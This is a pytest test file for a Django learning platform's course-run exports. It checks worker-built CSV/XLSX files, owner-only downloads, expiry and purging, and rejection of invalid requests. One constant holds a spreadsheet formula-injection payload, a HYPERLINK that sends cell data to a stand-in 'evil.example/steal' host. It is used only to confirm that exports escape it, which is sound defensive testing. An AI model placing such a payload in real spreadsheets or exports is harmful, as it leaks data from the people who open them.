"""Exports of a run: built by a real Celery worker into private storage, downloaded once, then gone."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.contrib.auth.models import Group
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from courses.exceptions import ExportError
from courses.exports import (
    run_export_build,
    run_export_request,
    run_exports_purge_expired,
    spreadsheet_safe,
)
from courses.models import ExportStatus, RunExport
from lms.models import DoctorProfile
from lms.roles import ADMINISTRATORS, FACULTY_AUTHORS
from tests.certificates.processes import wait_until
from tests.courses.factories import CourseRunFactory, ModulePageFactory
from tests.factories import UserFactory
from tests.quizzes.factories import make_quiz
from tests.support.operations import populate_run

INJECTION = '=HYPERLINK("http://evil.example/steal?x="&A1,"Click")'


def staff(role):
    user = UserFactory(is_staff=True)
    user.groups.add(Group.objects.get(name=role))
    return user


def run_with(n: int):
    run = CourseRunFactory()
    modules = [ModulePageFactory(parent=run.course) for _ in range(2)]
    quiz = make_quiz(run.course, title="Post-test", pass_mark_percent=Decimal("60"))
    populate_run(run, n, modules=modules, quiz=quiz)
    run.refresh_from_db()
    return run


def download(client, export) -> bytes:
    response = client.get(reverse("courses_runexport:download", args=[export.pk]))
    assert response.status_code == 200, response.content[:500]
    assert "private" in response["Cache-Control"] and "no-store" in response["Cache-Control"]
    return b"".join(response.streaming_content)


def test_formula_looking_text_is_written_as_text():
    assert spreadsheet_safe(INJECTION) == "'" + INJECTION
    for dangerous in ("+1+1", "-2+3", "@SUM(A1)", "\tcmd", "\r=1"):
        assert spreadsheet_safe(dangerous).startswith("'")
    assert spreadsheet_safe("Dr Asha Menon") == "Dr Asha Menon"
    assert spreadsheet_safe(Decimal("-4.5")) == Decimal("-4.5")  # numbers stay numbers
    assert spreadsheet_safe(None) == "" and spreadsheet_safe(True) == "yes"


@pytest.mark.integration
@pytest.mark.django_db(transaction=True, serialized_rollback=True)
def test_a_worker_builds_csv_and_xlsx_that_only_their_requester_downloads(start_worker, media_root, client):
    start_worker()
    run = run_with(30)
    DoctorProfile.objects.filter(registration_number=f"KMC-{run.pk}-00004").update(full_name=INJECTION)
    admin = staff(ADMINISTRATORS)
    client.force_login(admin)

    response = client.post(
        reverse("courses_runexport:request_export"),
        {"run": run.pk, "kind": "enrolments", "file_format": "csv"},
    )
    assert response.status_code == 302
    export = RunExport.objects.get()
    assert response["Location"] == reverse("courses_runexport:export_progress", args=[export.pk])
    wait_until(lambda: RunExport.objects.get(pk=export.pk).status == ExportStatus.READY, timeout=60)
    export.refresh_from_db()
    assert (export.rows_written, export.rows_total) == (30, 30)
    assert export.expires_at > timezone.now() + datetime.timedelta(hours=23)
    progress = client.get(response["Location"]).content.decode()
    assert 'data-export-status="ready"' in progress and "Download the file" in progress

    data = download(client, export)
    assert data.startswith("\ufeff".encode())  # Excel reads the UTF-8 right
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0][:3] == ["Enrolment", "Name (as printed)", "E-mail"]
    assert len(rows) == 31
    names = [row[1] for row in rows[1:]]
    assert "'" + INJECTION in names and INJECTION not in names

    attempts = run_export_request(kind="attempts", file_format="xlsx", course=run.course, run=run, by=admin)
    wait_until(lambda: RunExport.objects.get(pk=attempts.pk).status == ExportStatus.READY, timeout=60)
    sheet = load_workbook(io.BytesIO(download(client, RunExport.objects.get(pk=attempts.pk)))).active
    values = list(sheet.values)
    assert values[0][0] == "Attempt" and len(values) == 1 + 21  # steps 2 and 4–9 sat it, 3 in 10

    # Another administrator is told it is not theirs; the file is not served.
    client.force_login(staff(ADMINISTRATORS))
    refused = client.get(reverse("courses_runexport:download", args=[export.pk]))
    assert refused.status_code == 403
    assert "belongs to another administrator" in refused.content.decode()


@pytest.mark.django_db
def test_expired_exports_are_refused_and_their_files_deleted(client, media_root):
    run = run_with(10)
    admin = staff(ADMINISTRATORS)
    export = run_export_request(kind="certificates", file_format="csv", course=run.course, run=run, by=admin)
    run_export_build(export_id=export.pk)
    export.refresh_from_db()
    storage, name = export.file.storage, export.file.name
    assert export.status == ExportStatus.READY and storage.exists(name)
    assert export.rows_written == 4  # four certificates in ten

    RunExport.objects.filter(pk=export.pk).update(expires_at=timezone.now() - datetime.timedelta(seconds=1))
    client.force_login(admin)
    response = client.get(reverse("courses_runexport:download", args=[export.pk]))
    assert response.status_code == 410 and "has expired" in response.content.decode()

    assert run_exports_purge_expired() == 1
    export.refresh_from_db()
    assert export.status == ExportStatus.EXPIRED and not export.file and not storage.exists(name)
    assert run_exports_purge_expired() == 0  # safe twice


@pytest.mark.django_db
def test_building_twice_writes_one_file(media_root):
    run = run_with(10)
    export = run_export_request(kind="progress", file_format="csv", course=run.course, run=run, by=None)
    first = run_export_build(export_id=export.pk)
    second = run_export_build(export_id=export.pk)
    assert first.file.name == second.file.name
    assert len(list((media_root / "private" / "exports").rglob("*.csv"))) == 1
    text = first.file.open("rb").read().decode("utf-8-sig")
    assert "Completed" in text and "Modules 1/2" in text
    assert run_export_build(export_id=999999) is None


@pytest.mark.django_db
def test_bad_requests_change_nothing(client):
    run = run_with(10)
    other = CourseRunFactory()
    admin = staff(ADMINISTRATORS)
    with pytest.raises(ExportError, match="another course"):
        run_export_request(kind="enrolments", file_format="csv", course=other.course, run=run, by=admin)
    with pytest.raises(ExportError, match="no export"):
        run_export_request(kind="passwords", file_format="csv", course=run.course, run=run, by=admin)
    with pytest.raises(ExportError, match="CSV or XLSX"):
        run_export_request(kind="enrolments", file_format="pdf", course=run.course, run=run, by=admin)
    client.force_login(admin)
    url = reverse("courses_runexport:request_export")
    response = client.post(
        url, {"course": other.course.pk, "run": run.pk, "kind": "enrolments", "file_format": "csv"}
    )
    assert response.status_code == 200 and "is a run of another course" in response.content.decode()
    response = client.post(url, {"kind": "enrolments", "file_format": "csv"})
    assert "Choose a course or a run" in response.content.decode()
    assert not RunExport.objects.exists()
    client.force_login(staff(FACULTY_AUTHORS))
    assert client.get(url).status_code == 302
